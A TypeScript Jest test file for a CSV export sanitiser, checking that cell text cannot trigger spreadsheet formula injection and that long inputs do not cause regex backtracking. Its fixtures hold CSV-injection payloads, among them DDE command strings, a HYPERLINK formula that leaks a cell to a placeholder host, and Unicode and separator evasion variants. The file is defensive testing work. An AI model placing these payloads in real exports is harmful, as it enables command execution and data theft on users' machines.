import { runInNewContext } from 'node:vm';
import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { csvNote, csvRecord, harmlessText, isFormula } from '../../gateway/request/exports/csv.ts';
import { xmlText } from '../../gateway/request/exports/xlsx.ts';

/* CSV that no spreadsheet calculates (OWASP, "CSV Injection"), and that every reader of RFC 4180 reads. */

/** Texts that a spreadsheet would take for a formula, or whose parts it would where it splits cells otherwise. */
const INJECTIONS: Readonly<Record<string, string>> = {
  equals: '=1+1',
  plus: '+1+1',
  minus: '-2+3',
  at: '@SUM(1,1)',
  'a command': "=cmd|' /C calc'!A0",
  'a minus and a command': "-2+3+cmd|' /C calc'!A0",
  'a link': '=HYPERLINK("http://example.gov?x="&A1,"more")',
  'a tab': '\t=1+1',
  'a carriage return': '\r=1+1',
  'a line feed': '\n=1+1',
  blanks: '   =1+1',
  'a blank that does not break': '\u00a0=1+1',
  'a blank without width': '\u200b=1+1',
  'a mark of byte order': '\ufeff=1+1',
  'a control': '\u0001=1+1',
  'full-width equals': '＝1+1',
  'full-width plus': '＋1+1',
  'full-width minus': '－1+1',
  'full-width at': '＠SUM(1)',
  'small equals': '﹦1+1',
  'a minus sign': '−1+1',
  'a telephone number': '+12025550100',
  'a negative number written as a text': '-5',
};
/** Texts in which another program would see a cell begin: the file is split by commas, and not every reader does. */
const WITHIN: Readonly<Record<string, string>> = {
  'after a semicolon': 'a;=1+1',
  'after a semicolon and a quote': 'a;"=1+1',
  'after a tab': 'a\t@SUM(1)',
  'after a line': 'a\r\n=1+1',
  'after a line and blanks': 'a\n  +1',
  'after lines and quotes that take turns': 'a\n"\n \' " \n=1',
};
/** Texts in which the same place could be looked at from many others. */
const LONG: Readonly<Record<string, string>> = {
  'empty lines': '\n',
  'lines of Windows': '\r\n',
  blanks: ' ',
  tabs: '\t',
  quotes: '"',
  'lines of quotes': '\n"\' ',
  semicolons: ';',
  'what is not seen': '\u200b',
  signs: '\n=',
  lows: '_',
};
const BEGINS_A_FORMULA = /(?:^|[;\t\r\n])[\s"\p{Cc}\p{Cf}]*[=+\-@＝＋－＠﹦−]/u;
const BEGINS_ONE = /^[\s\p{Cf}]*[=+\-@]/u;

describe('a text', () => {
  it.each(Object.entries({ ...INJECTIONS, ...WITHIN }))('is no formula: %s', (_, text) => {
    expect(text).toMatch(BEGINS_A_FORMULA);
    expect(harmlessText(text)).not.toMatch(BEGINS_A_FORMULA);
    const [[cell, other] = []]: string[][] = parse(csvRecord([text, 'beside']));
    expect([cell, other]).toEqual([harmlessText(text), 'beside']);
  });

  it.each([
    '# end: 2 rows, complete',
    '  # end: 2 rows, complete',
    '\u200b# end: 2 rows, complete',
    '\ufeff# marking: CUI',
    '#1',
    '＃ end',
    'x\r\n# end: 2 rows, complete',
    'x\n \u2028# end: 2 rows, complete',
    'x\u0085# end: 2 rows, complete',
    'x\n"# end: 2 rows, complete',
  ])('is no note of the file, nor is a line of it: %j', (text) => {
    const record = csvRecord([text, null]);
    expect(
      harmlessText(text)
        .split(/[\n\v\f\r\u0085\u2028\u2029]/u)
        .filter(isNote),
    ).toEqual([]);
    expect(record.split('\r\n')).not.toContain('"# end: 2 rows, complete",');
    const [[cell] = []]: string[][] = parse(record);
    expect(cell).toBe(harmlessText(text));
  });

  it.each([
    'Folder #5',
    'a; #5',
    '',
    'plain',
    'IQ-2026-0000000001',
    'a-b',
    'a=b',
    'x@example.gov',
    'a; b',
    'it said "no", and left',
    '2026-01-31',
    "'quoted'",
  ])('that is harmless stays as it is: %s', (text) => {
    const [[cell] = []]: string[][] = parse(csvRecord([text, 'beside']));
    expect(cell).toBe(text);
  });
});

/** Tells whether a line would be taken for what the file says of itself. */
const isNote = (line: string): boolean => /^[\s\p{Cc}\p{Cf}"]*[#＃﹟]/u.test(line);

describe('a note', () => {
  it('is a record of as many fields as every other, and splits into no formula', () => {
    expect(csvNote('end: 2 rows, complete', 3)).toBe('"# end: 2 rows, complete",,\r\n');
    expect(csvNote('for: a;=1+1', 2)).toBe(`"# for: a;'=1+1",\r\n`);
  });
});

describe('a long text', () => {
  // The context ends what does not: an expression that backtracks would take hours for these.
  const ending = <T>(work: () => T): T => runInNewContext('work()', { work }, { timeout: 20_000 });

  it.each(Object.entries(LONG))('is read once through: %s', (_, part) => {
    const run = part.repeat(200_000 / part.length);
    for (const text of [run, `a${run}`, `a${run}b`, `a;${run}=1`]) {
      const record = ending(() => csvRecord([text, 'beside']));
      expect(record.endsWith(',beside\r\n')).toBe(true);
      expect(ending(() => xmlText(text)).length).toBeGreaterThan(32_000);
      expect(ending(() => isFormula(text))).toBe(BEGINS_ONE.test(text));
    }
  });
});

describe('a record', () => {
  it('keeps what is a number or a truth value as it is', () => {
    expect(csvRecord([-5, 0, 1.5, true, false, null])).toBe('-5,0,1.5,true,false,\r\n');
  });

  it('quotes what would end a field or a record', () => {
    expect(csvRecord(['a,b', 'a"b', 'a\nb', ' a'])).toBe('"a,b","a""b","a\nb"," a"\r\n');
  });
});
